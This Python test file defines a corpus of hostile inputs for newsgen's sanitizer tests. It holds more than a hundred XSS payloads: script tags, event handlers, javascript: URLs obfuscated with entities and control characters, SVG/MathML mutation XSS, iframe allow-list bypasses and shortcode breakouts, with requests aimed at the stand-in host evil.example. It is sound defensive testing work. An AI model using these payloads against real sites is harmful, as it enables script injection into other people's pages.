"""A corpus of hostile inputs, written for newsgen's tests (issue 14).

Each `Payload` is a named piece of text and the forms it is placed in: a Markdown body, raw
HTML inside a Markdown body, the body of an `.html` article, the content of an Atom entry fed
to `newsgen import feed`, and the front-matter values (title, summary, tags, author, image,
image_alt, image_caption) and their feed counterparts (entry title, summary, category,
author). The texts are the classic vectors, rewritten by hand for this project: script tags,
event handlers, script URLs split by entities and control characters, SVG and MathML
namespace confusion (mXSS), raw-text elements closed inside an attribute, comments and CDATA,
`<base>`, `<meta http-equiv>`, forms, `srcset`, `style`, `<object>`/`<embed>`/`<iframe>`,
newsgen's own placeholder characters (U+E000 to U+E003) and the shortcodes they stand for,
noncharacters, and the Liquid and Hugo tags newsgen renders.

The token `PID` in a text (and in `front_matter` values) is replaced by the test with a
number unique to the placement (which payload, in which form), so a dialog's message or a
requested URL names the payload that caused it.

The rule the browser test holds every page to
--------------------------------------------

1. **No script runs.** Every payload that would run script calls `alert(PID)` (or
   `confirm`/`print`), so a dialog is the observable. Script that needs a reader's hand (a
   click on a `javascript:` link, a hover over an `onmouseover`) is judged from the live
   DOM: no element may carry an `on…` attribute, no link, form action, frame or object may
   lead to anything but `http:`, `https:`, `mailto:` or `tel:` as the browser itself
   resolves it, no `<iframe srcdoc>`, no `<base>`, no `<meta http-equiv>`, and no
   `<script>` but the theme's own (JSON-LD, and the search page's scripts from the site).
   Pagefind UI's own search form (`action="javascript:void(0);"`) is the one exception.
   A `javascript:` URL where browsers never run one (`<img src>`, `srcset`) is inert and
   not counted.

2. **No resource loads from another host, except what the allow-list allows by design.**
   docs/bodies.md keeps images, `<picture>` sources, video and audio from any
   host, and `<iframe>`s from `markdown.iframe_hosts` (www.youtube.com,
   www.youtube-nocookie.com, player.vimeo.com). So the corpus names two foreign hosts:

   * `evil.example` (`EVIL`) appears only inside vectors the product must strip or
     neutralise (stylesheets, `style` URLs, `<base>`, meta refresh, `<object>`, `<embed>`,
     `<svg><image>`, `<input type=image>`, iframes from unlisted hosts and the allow-list
     bypasses). **Any** request to it, of any kind, fails the test.
   * `media.example` (`MEDIA`) appears only where the product keeps foreign media by design
     (`<img src>`/`srcset`, `<picture><source srcset>`, `<video poster>`). A request to it
     passes only as an image, media or text-track load.

   A request to the iframe hosts passes only as a sub-frame document. A request to any other
   host fails. The same rule is applied to the URLs in the live DOM (`src`, `srcset`,
   `poster`, `data`, stylesheet links, `style` URLs, frames), so a lazy load that has not
   happened yet counts too. The browser never reaches the network: the test aborts every
   request that is not for the local server, after logging it.
"""

from __future__ import annotations

from dataclasses import dataclass, field

EVIL = "https://evil.example"
"""Never legitimately loaded: payloads use it only where the vector must be stripped."""
MEDIA = "https://media.example"
"""Foreign media the sanitizer keeps by design (docs/bodies.md)."""
IFRAME_HOSTS = frozenset({"www.youtube.com", "www.youtube-nocookie.com", "player.vimeo.com"})
"""newsgen's default `markdown.iframe_hosts`."""

# Forms: where a payload's text is placed.
MARKDOWN = "markdown"
"""Markdown syntax in the body of a `.md` article."""
RAW_HTML = "raw-html"
"""HTML written inside the body of a `.md` article."""
HTML_ARTICLE = "html-article"
"""The body of an `.html` article."""
FEED = "feed"
"""The HTML content of an Atom entry, through `newsgen import feed`."""
TITLE, SUMMARY, TAGS, AUTHOR = "title", "summary", "tags", "author"
IMAGE, IMAGE_ALT, IMAGE_CAPTION = "image", "image_alt", "image_caption"
FEED_TITLE, FEED_SUMMARY = "feed-title", "feed-summary"
FEED_CATEGORY, FEED_AUTHOR = "feed-category", "feed-author"

BODY_FORMS = (MARKDOWN, RAW_HTML, HTML_ARTICLE, FEED)
FRONT_MATTER_FORMS = (TITLE, SUMMARY, TAGS, AUTHOR, IMAGE, IMAGE_ALT, IMAGE_CAPTION)
FEED_META_FORMS = (FEED_TITLE, FEED_SUMMARY, FEED_CATEGORY, FEED_AUTHOR)
ALL_FORMS = BODY_FORMS + FRONT_MATTER_FORMS + FEED_META_FORMS

HTML_BODY = frozenset({RAW_HTML, HTML_ARTICLE, FEED})
"""Raw HTML: inside Markdown, as an `.html` body, and through a feed."""
SHORTCODE_BODY = frozenset({MARKDOWN, HTML_ARTICLE})
"""Template tags: newsgen renders them in Markdown and `.html` bodies alike."""
TEXT = frozenset({TITLE, SUMMARY, TAGS, AUTHOR, IMAGE_ALT, IMAGE_CAPTION, *FEED_META_FORMS})
"""Plain-text values: they must be shown as written, escaped, never as markup."""


@dataclass(frozen=True)
class Payload:
    name: str
    text: str
    forms: frozenset[str]
    note: str = ""
    front_matter: dict[str, str] = field(default_factory=dict)
    """Extra front-matter keys for the body forms (Hugo's `param` shortcode reads them)."""
    family: str = ""
    """Payloads of one family take the same path through newsgen and cannot hide one
    another, so the test may put them in one article (each keeps its own PID). A payload
    without a family has an article of its own in every form: one that changes how the
    whole body is handled (no '<' in it, a placeholder's index, a table count), the
    parser's state (mXSS, an unclosed comment, <plaintext>) or the page (<base>, a
    refresh, a CSP)."""

    @property
    def group(self) -> str:
        return self.family or self.name


CORPUS: list[Payload] = []


def _add(
    name: str,
    text: str,
    forms: frozenset[str] | set[str],
    note: str = "",
    *,
    family: str = "",
    **fm: str,
) -> None:
    assert all(p.name != name for p in CORPUS), f"duplicate payload name {name}"
    assert set(forms) <= set(ALL_FORMS), forms
    CORPUS.append(Payload(name, text, frozenset(forms), note, dict(fm), family))


H = HTML_BODY
HT = HTML_BODY | TEXT
MD = frozenset({MARKDOWN})

# --- The four injections of issue 14 ----------------------------------------------------------

_add(
    "heading-attributes-autofocus",
    "## Heading {#z tabindex=0 autofocus onfocus=alert(PID)}\n\nText after.",
    MD,
    "issue 14 (1): pulldown-cmark heading attributes, and no '<' in the body",
)
_add(
    "heading-attributes-onclick",
    "## Heading {onclick=alert(PID) .x}\n\nText after.",
    MD,
    "a handler that waits for a click: the DOM check catches it",
    family="heading-attributes",
)
_add(
    "setext-heading-attributes",
    "Heading {#y autofocus tabindex=0 onfocusin=alert(PID)}\n==========\n\nText.",
    MD,
    family="heading-attributes",
)
_add(
    "kramdown-heading-attributes",
    "## Heading {: #k onmouseover=alert(PID) tabindex=0 autofocus onfocus=alert(PID)}\n\nText.",
    MD,
    family="heading-attributes",
)
_add(
    "heading-attributes-with-raw-html",
    "## Heading {#w tabindex=0 autofocus onfocus=alert(PID)}\n\n<b>bold</b>",
    MD,
    "the same, with raw HTML in the body",
)
_add(
    "placeholder-in-title-attribute-figure",
    '{{< figure src="x onerror=alert(PID) y" >}}\n\n'
    '<img src="missing-PID.png" alt="" title="\ue000ng0\ue000">',
    {RAW_HTML, HTML_ARTICLE},
    "issue 14 (2): a typed U+E000 marker put back inside an attribute after sanitizing",
)
_add(
    "placeholder-in-href-figure",
    '{{< figure src="x onerror=alert(PID) y" >}}\n\n<a href="\ue000ng0\ue000">link</a>',
    {RAW_HTML, HTML_ARTICLE},
)
_add(
    "placeholder-next-to-youtube",
    '<a title="\ue000ng0\ue000" href=x>t</a>\n\n{{< youtube abcdefgh >}}\n\n'
    '<img src="missing-PID.png" alt="\ue000ng0\ue000">',
    {RAW_HTML, HTML_ARTICLE},
)
_add(
    "placeholder-markers-in-markdown",
    '{{< figure src="x onerror=alert(PID) y" >}}\n\n'
    "## Heading {#h title=\ue000ng0\ue000}\n\n[link](\ue000ng0\ue000) `\ue000ng0\ue000`",
    MD,
)
_add(
    "keep-marker-in-scheme",
    '<a href="java\ue001script:alert(PID)">keep marker</a>'
    ' <a href="\ue001javascript:alert(PID)">lead</a>',
    H,
    "U+E001 is removed after sanitizing",
    family="markers",
)
_add(
    "straight-quote-markers-in-attributes",
    '<a href="https://ok.example/" title="\ue002 onmouseover=alert(PID) x=\ue002">q</a>'
    "<img src=missing-PID.png alt='\ue003 onerror=alert(PID) x=\ue003'>",
    H,
    family="markers",
)
for _ref in ("&#1;", "&#x1F;", "&#x7f;", "&#xFDD0;", "&#xFFFE;", "&#x81;", "&#x9d;", "&#0;"):
    _add(
        f"control-reference-in-scheme-{_ref.strip('&#;').lower()}",
        f'<a href="jav{_ref}ascript:alert(PID)">x</a>',
        H,
        "issue 14 (3): passes the sanitizer, then the dropped character joins the scheme",
        family="control-in-scheme",
    )
_add(
    "noncharacter-before-scheme",
    '<a href="&#xFDD0;javascript:alert(PID)">a</a> <a href="&#xFFFF;javascript:alert(PID)">b</a>'
    ' <a href="&#x85;javascript:alert(PID)">c</a>',
    H,
    family="control-in-scheme",
)
for _n, _src in enumerate(
    (
        "https://evil.example\\@www.youtube.com/embed/PID",
        "//evil.example\\@www.youtube.com/embed/PID",
        "http://evil.example\\@player.vimeo.com/video/PID",
        "https://evil.example&#92;@www.youtube-nocookie.com/embed/PID",
        "https://evil.example:443\\@www.youtube.com/embed/PID",
        "https://evil.example\\\\@www.youtube.com/embed/PID",
        "HTTPS://EVIL.EXAMPLE\\@WWW.YOUTUBE.COM/embed/PID",
        "https://evil.example\\.@www.youtube.com/embed/PID",
        "https://www.youtube.com.evil.example/embed/PID",
        "https://evil.example/PID#@www.youtube.com/",
        "https://evil.example/PID?@www.youtube.com/",
        "https://evil.example%5C@www.youtube.com/embed/PID",
    ),
    1,
):
    _add(
        f"iframe-host-{_n}",
        f'<iframe src="{_src}" title="v"></iframe>',
        H,
        "issue 14 (4): the sanitizer's URL parser and the browser's disagree on the host",
        family="iframe-host",
    )

# --- Script elements and event handlers -------------------------------------------------------

_add("script", "<script>alert(PID)</script>", HT, family="script")
_add("script-mixed-case", "<ScRiPt >alert(PID)</sCrIpT >", H, family="script")
_add("script-src", '<script src="https://evil.example/PID.js"></script>', H, family="script")
_add(
    "script-split-by-script",
    "<scr<script>x</script>ipt>alert(PID)</scr<script>x</script>ipt>",
    H,
    family="script",
)
_add("script-after-quote", '"><script>alert(PID)</script>', HT, family="script")
_add("img-onerror", "<img src=x onerror=alert(PID)>", HT, family="img")
_add("img-onerror-entities", '<img src=x onerror="&#97;&#108;ert(PID)">', H, family="img")
_add("img-onerror-slashes", "<img/src=x/onerror=alert(PID)>", H, family="img")
_add("img-onerror-newlines", "<img\nsrc=x\nonerror\n=\nalert(PID)\n>", H, family="img")
_add("img-onerror-backtick", "<img src=`x` onerror=`alert(PID)`>", H, family="img")
_add("img-no-space-before-handler", '<img src="x" alt="a"onerror="alert(PID)">', H, family="img")
_add("img-null-in-handler", "<img src=x on&#0;error=alert(PID)>", H, family="img")
_add("img-object-replacement", "<img src=x \ufffconerror=alert(PID)>", H, family="img")
_add("svg-onload", "<svg onload=alert(PID)>", HT, family="handlers")
_add("body-onload", "<body onload=alert(PID)>", H, family="handlers")
_add(
    "details-ontoggle",
    "<details open ontoggle=alert(PID)><summary>s</summary>d</details>",
    H,
    family="handlers",
)
_add("input-autofocus", "<input autofocus onfocus=alert(PID)>", H, family="handlers")
_add(
    "div-autofocus",
    "<div tabindex=0 autofocus onfocus=alert(PID)>focus me</div>",
    H,
    family="handlers",
)
_add(
    "select-autofocus",
    "<select autofocus onfocus=alert(PID)><option>a</option></select>",
    H,
    family="handlers",
)
_add(
    "textarea-autofocus",
    "<textarea autofocus onfocus=alert(PID)>t</textarea>",
    H,
    family="handlers",
)
_add("marquee-onstart", "<marquee onstart=alert(PID)>m</marquee>", H, family="handlers")
_add("style-onload", "<style onload=alert(PID)></style>", H, family="handlers")
_add("video-source-onerror", "<video><source onerror=alert(PID)></video>", H, family="handlers")
_add("audio-onerror", "<audio src=x onerror=alert(PID)></audio>", H, family="handlers")
_add("video-onerror", '<video src="x" onerror="alert(PID)"></video>', H, family="handlers")
_add(
    "iframe-onload",
    '<iframe src="https://www.youtube.com/embed/x" onload="alert(PID)"></iframe>',
    H,
    family="handlers",
)
_add("hover-handler", '<p onmouseover="alert(PID)">hover</p>', H, family="handlers")
_add("single-quote-breakout", "'><svg onload=alert(PID)>", HT, family="handlers")

# --- URLs that run script ---------------------------------------------------------------------

for _name, _href in (
    ("plain", "javascript:alert(PID)"),
    ("upper", "JaVaScRiPt:alert(PID)"),
    ("leading-spaces", "   javascript:alert(PID)"),
    ("leading-controls", "&#1;&#2; javascript:alert(PID)"),
    ("tab", "java&#x09;script:alert(PID)"),
    ("newline-decimal", "java&#10;script:alert(PID)"),
    ("newline-hex", "jav&#x0A;ascript:alert(PID)"),
    ("carriage-return", "java&#13;script:alert(PID)"),
    ("entity-letters", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(PID)"),
    ("entity-no-semicolons", "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(PID)"),
    ("entity-zero-padded", "&#0000106;avascript:alert(PID)"),
    ("named-colon", "javascript&colon;alert(PID)"),
    ("named-newline", "java&NewLine;script:alert(PID)"),
    ("named-tab", "java&Tab;script:alert(PID)"),
    ("replacement-character", "\ufffdjavascript:alert(PID)"),
    ("vbscript", "vbscript:msgbox(PID)"),
    ("data-html", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
):
    _add(f"href-{_name}", f'<a href="{_href}">link</a>', H, family="href")
_add("href-unquoted", "<a href=javascript:alert(PID)>link</a>", H, family="href")
_add(
    "area-href",
    '<map name=mPID><area shape=rect coords=0,0,9,9 href="javascript:alert(PID)"></map>',
    H,
    family="href",
)
_add(
    "form-action",
    '<form action="javascript:alert(PID)"><button>Go</button></form>',
    H,
    family="forms",
)
_add(
    "button-formaction",
    '<form id=fPID></form><button form=fPID formaction="javascript:alert(PID)">Go</button>',
    H,
    family="forms",
)
_add(
    "form-to-evil",
    '<form action="https://evil.example/PID"><input name=q></form>',
    H,
    family="forms",
)
_add("input-image", '<input type="image" src="https://evil.example/PID.png">', H, family="forms")

# --- Markdown ---------------------------------------------------------------------------------

for _name, _link in (
    ("plain", "[x](javascript:alert(PID))"),
    ("upper", "[x](JAVASCRIPT:alert(PID))"),
    ("tab-entity", "[x](jav&#x09;ascript:alert(PID))"),
    ("newline-entity", "[x](jav&#x0A;ascript:alert(PID))"),
    ("letter-entity", "[x](&#106;avascript:alert(PID))"),
    ("colon-entity", "[x](javascript&#58;alert(PID))"),
    ("named-colon", "[x](javascript&colon;alert(PID))"),
    ("control-entity", "[x](java&#1;script:alert(PID))"),
    ("noncharacter-entity", "[x](jav&#xFDD0;ascript:alert(PID))"),
    ("delete-entity", "[x](jav&#x7f;ascript:alert(PID))"),
    ("c1-entity", "[x](jav&#x81;ascript:alert(PID))"),
    ("keep-marker", "[x](java\ue001script:alert(PID))"),
    ("quote-marker", "[x](\ue002javascript:alert(PID))"),
    ("percent", "[x](javascript%3Aalert(PID))"),
    ("vbscript", "[x](vbscript:msgbox(PID))"),
    ("data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("title-breakout", '[x](https://ok.example/ "\\" onmouseover=\\"alert(PID)")'),
    ("image", "![x](javascript:alert(PID))"),
    ("image-link", "[![x](missing-PID.png)](javascript:alert(PID))"),
    ("reference", "[x][rPID]\n\n[rPID]: javascript:alert(PID)"),
    ("reference-entity", "[x][ePID]\n\n[ePID]: jav&#x09;ascript:alert(PID)"),
    ("reference-control", "[x][cPID]\n\n[cPID]: jav&#1;ascript:alert(PID)"),
    ("collapsed-reference", "[javascript][]\n\n[javascript]: javascript:alert(PID)"),
):
    _add(f"md-link-{_name}", f"Before {_link} after.", MD, family="md-link")
for _name, _link in (
    ("angle", "[x](<javascript:alert(PID)>)"),
    ("autolink", "<javascript:alert(PID)>"),
    ("autolink-upper", "<JAVASCRIPT:alert(PID)>"),
    ("autolink-data", "<data:text/html,alert(PID)>"),
    ("autolink-control-entity", "<jav&#1;ascript:alert(PID)>"),
    ("reference-angle-title", '[x][aPID]\n\n[aPID]: <javascript:alert(PID)> "t"'),
):
    _add(f"md-{_name}", f"Before {_link} after.", MD, family="md-autolink")
_add("md-entity-text", "&lt;img src=x onerror=alert(PID)&gt; stays text", MD, family="md-text")
_add(
    "md-footnote-label",
    'A claim.[^x" onmouseover="alert(PID)]\n\n[^x" onmouseover="alert(PID)]: N.',
    MD,
    family="md-text",
)
_add(
    "md-heading-id-quote", '## Heading {#a"onmouseover="alert(PID)}\n\nText.', MD, family="md-text"
)
_add(
    "md-heading-id-single-quote",
    "## Heading {#b'onfocus='alert(PID)'}\n\nText.",
    MD,
    family="md-text",
)
_add(
    "md-heading-class-quote", '## Heading {.c" onfocus="alert(PID)}\n\nText.', MD, family="md-text"
)
_add("md-table-cell", "| a |\n|---|\n| <img src=x onerror=alert(PID)> |", MD, family="md-raw")
_add(
    "md-code-is-code",
    "`<img src=x onerror=alert(PID)>` and\n\n    <script>alert(PID)</script>",
    MD,
    family="md-raw",
)
_add(
    "md-emphasis-in-tag",
    '<a href="x" title="*">*</a><img src=x *onerror*=alert(PID)>',
    MD,
    family="md-raw",
)
_add(
    "md-link-around-raw-html",
    "[<img src=x onerror=alert(PID)>](https://ok.example/)"
    ' <a href="x">[y](javascript:alert(PID))</a>',
    MD,
    family="md-raw",
)

# --- SVG, MathML and mutation XSS -------------------------------------------------------------

_add("svg-script", "<svg><script>alert(PID)</script></svg>", H, family="svg")
_add(
    "svg-script-href",
    '<svg><script href="data:text/javascript,alert(PID)"></script></svg>',
    H,
    family="svg",
)
_add(
    "svg-animate-onbegin",
    "<svg><animate onbegin=alert(PID) attributeName=x dur=1s></svg>",
    H,
    family="svg",
)
_add(
    "svg-set-href",
    '<svg><a><set attributeName=href to="javascript:alert(PID)"/><text y=20>t</text></a></svg>',
    H,
    family="svg",
)
_add(
    "svg-foreignobject",
    "<svg><foreignObject><img src=x onerror=alert(PID)></foreignObject></svg>",
    H,
    family="svg",
)
_add(
    "svg-image",
    '<svg><image href="https://evil.example/PID.png" width=9 height=9 /></svg>',
    H,
    family="svg",
)
_add("svg-use", '<svg><use href="https://evil.example/PID.svg#a" /></svg>', H, family="svg")
_add("math-href", '<math href="javascript:alert(PID)"><mi>click</mi></math>', H, family="svg")
_add("svg-style-img", "<svg><style><img src=x onerror=alert(PID)></style></svg>", H)
_add("svg-p-style", '<svg></p><style><a id="</style><img src=x onerror=alert(PID)>">', H)
_add("math-style-img", "<math><style><img src=x onerror=alert(PID)></style></math>", H)
_add("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(PID)>", H)
_add(
    "math-mglyph-style-comment",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;'
    '&lt;img src=x onerror=alert(PID)&gt;">',
    H,
)
_add(
    "math-form-nesting",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(PID)>",
    H,
)
_add(
    "math-annotation-xml",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(PID)>'
    "</style></annotation-xml></math>",
    H,
)
_add(
    "svg-desc-table-style",
    "<svg><desc><table><style></desc></svg><img src=x onerror=alert(PID)></style></table>",
    H,
)

# --- Raw-text elements closed inside an attribute ---------------------------------------------

for _element in ("noscript", "noembed", "noframes", "xmp", "textarea", "title", "iframe", "style"):
    _add(
        f"{_element}-attribute-breakout",
        f'<{_element}><p title="</{_element}><img src=x onerror=alert(PID)>"></{_element}>',
        H,
        family="raw-text",
    )
_add(
    "template-content", "<template><img src=x onerror=alert(PID)></template>", H, family="raw-text"
)
_add("plaintext", "<plaintext><img src=x onerror=alert(PID)>", H)

# --- Comments, CDATA, processing instructions -------------------------------------------------

_add("comment-abrupt", "<!--><img src=x onerror=alert(PID)>-->", H, family="comments")
_add("comment-abrupt-dash", "<!---><img src=x onerror=alert(PID)>-->", H, family="comments")
_add("comment-bang-close", "<!-- x --!><img src=x onerror=alert(PID)>-->", H, family="comments")
_add(
    "comment-in-attribute",
    '<p title="<!--">x</p><img src=x onerror=alert(PID)>-->',
    H,
    family="comments",
)
_add("cdata-html", "<![CDATA[><img src=x onerror=alert(PID)>]]>", HT, family="comments")
_add("cdata-svg", "<svg><![CDATA[><img src=x onerror=alert(PID)>]]></svg>", H, family="comments")
_add("processing-instruction", "<?xml ><img src=x onerror=alert(PID)>?>", H, family="comments")
_add("bogus-end-tag", "</x title=><img src=x onerror=alert(PID)>", H, family="comments")
_add("comment-unclosed", "<!-- <img src=x onerror=alert(PID)>", HT)

# --- Loading from another host, and pages that go elsewhere -----------------------------------

_add("base-href", '<base href="https://evil.example/PID/"><img src="x.png" alt="">', H)
_add("base-href-javascript", '<base href="javascript:alert(PID)//"><a href="x">x</a>', H)
_add("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/PID">', H)
_add(
    "meta-refresh-javascript",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(PID)">',
    H,
)
_add(
    "meta-refresh-data",
    '<meta http-equiv="refresh"'
    ' content="0;url=data:text/html,&lt;script&gt;alert(PID)&lt;/script&gt;">',
    H,
)
_add("meta-csp", '<meta http-equiv="Content-Security-Policy" content="script-src \'none\'">', H)
_add(
    "link-stylesheet",
    '<link rel="stylesheet" href="https://evil.example/PID.css">',
    H,
    family="link",
)
_add(
    "link-preload",
    '<link rel="preload" as="image" href="https://evil.example/PID.png">',
    H,
    family="link",
)
_add(
    "link-prefetch", '<link rel="prefetch" href="https://evil.example/PID.html">', H, family="link"
)
_add("link-icon", '<link rel="icon" href="https://evil.example/PID.ico">', H, family="link")
_add("style-import", "<style>@import url(https://evil.example/PID.css);</style>", H, family="style")
_add(
    "style-background",
    "<style>body{background:url(https://evil.example/PID.png)}</style>",
    H,
    family="style",
)
_add(
    "style-attribute-url",
    '<p style="background-image:url(https://evil.example/PID.png)">s</p>',
    H,
    family="style",
)
_add(
    "style-attribute-quoted-url",
    '<div style="background:url(&quot;https://evil.example/PID.png&quot;)">s</div>',
    H,
    family="style",
)
_add(
    "style-attribute-escaped-url",
    '<p style="background:u\\72 l(https://evil.example/PID.png)">s</p>',
    H,
    family="style",
)
_add(
    "style-attribute-image-set",
    "<p style=\"background:image-set('https://evil.example/PID.png' 1x)\">s</p>",
    H,
    family="style",
)
_add("style-expression", '<p style="width:expression(alert(PID))">s</p>', H, family="style")
_add(
    "style-behavior",
    '<p style="behavior:url(https://evil.example/PID.htc)">s</p>',
    H,
    family="style",
)
_add(
    "table-background",
    '<table background="https://evil.example/PID.png"><tr><td>t</td></tr></table>',
    H,
    family="style",
)
_add("object-data", '<object data="https://evil.example/PID.swf"></object>', H, family="object")
_add("object-javascript", '<object data="javascript:alert(PID)"></object>', H, family="object")
_add(
    "object-data-html",
    '<object data="data:text/html,&lt;script&gt;alert(PID)&lt;/script&gt;"></object>',
    H,
    family="object",
)
_add("embed-src", '<embed src="https://evil.example/PID.swf">', H, family="object")
_add("embed-javascript", '<embed src="javascript:alert(PID)">', H, family="object")
_add(
    "object-embed",
    '<object data="https://evil.example/PID.svg"><embed src="https://evil.example/PID.swf"></object>',
    H,
    family="object",
)
_add("iframe-unlisted-host", '<iframe src="https://evil.example/PID"></iframe>', H, family="iframe")
_add("iframe-javascript", '<iframe src="javascript:alert(PID)"></iframe>', H, family="iframe")
_add(
    "iframe-data",
    '<iframe src="data:text/html,&lt;script&gt;alert(PID)&lt;/script&gt;"></iframe>',
    H,
    family="iframe",
)
_add(
    "iframe-srcdoc",
    '<iframe srcdoc="&lt;script&gt;alert(PID)&lt;/script&gt;"></iframe>',
    H,
    family="iframe",
)
_add(
    "iframe-listed-host-srcdoc",
    '<iframe src="https://www.youtube.com/embed/x" srcdoc="&lt;img src=x onerror=alert(PID)&gt;">'
    "</iframe>",
    H,
    family="iframe",
)
_add("frameset", '<frameset><frame src="javascript:alert(PID)"></frameset>', H, family="iframe")
_add(
    "img-srcset-media",
    '<img src="x.png" alt="" srcset="https://media.example/PID.png 1x">',
    H,
    "foreign images are kept by design (docs/bodies.md): allowed, as an image load only",
    family="media",
)
_add(
    "picture-source-media",
    '<picture><source srcset="https://media.example/PID.webp" type="image/webp">'
    '<img src="x.png" alt=""></picture>',
    H,
    "kept by design, as an image load",
    family="media",
)
_add(
    "video-poster-media",
    '<video controls poster="https://media.example/PID.png"></video>',
    H,
    family="media",
)
_add(
    "img-srcset-javascript",
    '<img src="x.png" alt="" srcset="javascript:alert(PID) 1x">',
    H,
    family="media",
)
_add(
    "img-dynsrc-lowsrc",
    '<img src="x.png" dynsrc="javascript:alert(PID)" lowsrc="https://evil.example/PID.png">',
    H,
    family="media",
)

# --- Characters near tags: placeholders, replacement characters, noncharacters ----------------

_add("replacement-in-tag-name", "<\ufffdscript>alert(PID)</script>", H, family="characters")
_add("placeholder-before-tag", "\ue000<img src=x onerror=alert(PID)>\ue000", H, family="characters")
_add(
    "noncharacter-entities-in-text",
    "a&#xFDD0;b&#xFFFE;c&#xFFFF;<img src=x onerror=alert(PID)>",
    H,
    family="characters",
)
_add("null-in-tag-name", "<scr&#0;ipt>alert(PID)</script>", H, family="characters")
_add(
    "placeholders-in-text",
    "\ue000ng0\ue000 \ue001 \ue002 \ue003 \ufffc \ufffd plain",
    HT,
    family="characters",
)

# --- Liquid and Hugo tags ---------------------------------------------------------------------

S = SHORTCODE_BODY
_add("figure-src-javascript", '{{< figure src="javascript:alert(PID)" >}}', S, family="figure")
_add(
    "figure-link-javascript",
    '{{< figure src="x.png" link="javascript:alert(PID)" >}}',
    S,
    family="figure",
)
_add(
    "figure-link-entity",
    '{{< figure src="x.png" link="jav&#1;ascript:alert(PID)" >}}',
    S,
    family="figure",
)
_add(
    "figure-link-tab",
    '{{< figure src="x.png" link="java\tscript:alert(PID)" >}}',
    S,
    family="figure",
)
_add(
    "figure-caption-html",
    '{{< figure src="x.png" caption="<img src=x onerror=alert(PID)>" >}}',
    S,
    family="figure",
)
_add(
    "figure-caption-link",
    '{{< figure src="x.png" caption="<a href=\\"javascript:alert(PID)\\">c</a>" >}}',
    S,
    family="figure",
)
_add(
    "figure-caption-control-entity",
    '{{< figure src="x.png" caption="<a href=\\"jav&#1;ascript:alert(PID)\\">c</a>" >}}',
    S,
    family="figure",
)
_add(
    "figure-alt-quote",
    '{{< figure src="x.png" alt="\\" onerror=\\"alert(PID)" >}}',
    S,
    family="figure",
)
_add(
    "figure-width",
    '{{< figure src="missing.png" width="1 onerror=alert(PID)" >}}',
    S,
    family="figure",
)
_add("figure-src-spaces", '{{< figure src="x onerror=alert(PID) y" >}}', S, family="figure")
_add("youtube-id-breakout", '{{< youtube "x\\" onload=\\"alert(PID)" >}}', S, family="figure")
_add("vimeo-id-breakout", '{{< vimeo "1\\" onload=\\"alert(PID)" >}}', S, family="figure")
_add("post-url-javascript", "{% post_url javascript:alert(PID) %}", S, family="references")
_add("post-url-in-link", "[x]({% post_url javascript:alert(PID) %})", MD, family="references")
_add("link-tag-in-link", "[x]({% link javascript:alert(PID) %})", MD, family="references")
_add("ref-javascript", '[x]({{< ref "javascript:alert(PID)" >}})', MD, family="references")
_add("zola-link-javascript", "[x](@/javascript:alert(PID))", MD, family="references")
_add(
    "relative-url-filter",
    '[x]({{ "javascript:alert(PID)" | relative_url }})',
    MD,
    family="references",
)
_add(
    "absolute-url-filter",
    "<a href=\"{{ 'javascript:alert(PID)' | absolute_url }}\">x</a>",
    S,
    family="liquid",
)
_add("raw-tag", "{% raw %}<img src=x onerror=alert(PID)>{% endraw %}", S, family="liquid")
_add(
    "highlight-breakout",
    "{% highlight html %}</code></pre><img src=x onerror=alert(PID)>{% endhighlight %}",
    S,
    family="liquid",
)
_add(
    "hugo-highlight-breakout",
    "{{< highlight html >}}</code></pre><img src=x onerror=alert(PID)>{{< /highlight >}}",
    S,
    family="liquid",
)
_add(
    "escaped-shortcode",
    '{{</* figure src="x" caption="<img src=x onerror=alert(PID)>" */>}}',
    S,
    family="liquid",
)
_add(
    "comment-tag",
    "{% comment %}x{% endcomment %}<img src=x onerror=alert(PID)>",
    S,
    family="liquid",
)
_add(
    "param-html",
    "{{< param evil >}}",
    S,
    "Hugo's param shortcode puts a front-matter value into the body",
    evil="<img src=x onerror=alert(PID)>",
)
_add(
    "param-heading-attributes",
    "## Heading {{< param evil >}}\n\nText.",
    MD,
    evil="{#p tabindex=0 autofocus onfocus=alert(PID)}",
)

# --- Wrappers newsgen adds after sanitizing (tables, code blocks) -----------------------------

_add(
    "table-wrapper-in-attribute",
    '<p title="<table tabindex=0 autofocus onfocus=alert(PID) x=</table> ">t</p>',
    H,
    "newsgen wraps <table> after sanitizing, by pattern: text in an attribute must not match",
)
_add(
    "pre-tabindex-in-attribute",
    '<a href="https://ok.example/" title="<pre autofocus onfocus=alert(PID) x">t</a>',
    H,
)

# --- Text values only (front matter and feed metadata) ----------------------------------------

T = TEXT
_add("title-breakout", "</title><script>alert(PID)</script>", T)
_add("textarea-breakout", "</textarea><script>alert(PID)</script>", T)
_add("json-ld-breakout", "</script><script>alert(PID)</script>", T)
_add("json-ld-comment", "<!--<script>alert(PID)</script>", T)
_add("json-ld-line-separators", "a\u2028b\u2029</script><img src=x onerror=alert(PID)>", T)
_add("attribute-double-quote", '" autofocus onfocus="alert(PID)" x="', T)
_add("jinja-expression", "{{ '<img src=x onerror=alert(PID)>' | safe }} {% raw %}x{% endraw %}", T)
_add("escaped-markup-text", "&lt;img src=x onerror=alert(PID)&gt; &amp;lt;b&amp;gt;", T)
_add("cdata-end", "]]><img src=x onerror=alert(PID)>", T)
_add("control-characters", "a\u0001b\u007fc\u0085d\ufdd0e <img src=x onerror=alert(PID)>", T)
_add("image-attribute-breakout", 'x.png" onerror="alert(PID)', frozenset({IMAGE}))
_add("image-javascript", "javascript:alert(PID)", frozenset({IMAGE}))
_add("image-unquoted-breakout", "x.png onerror=alert(PID)", frozenset({IMAGE}))


def for_form(form: str) -> list[Payload]:
    """The payloads placed in FORM, in corpus order."""
    return [p for p in CORPUS if form in p.forms]
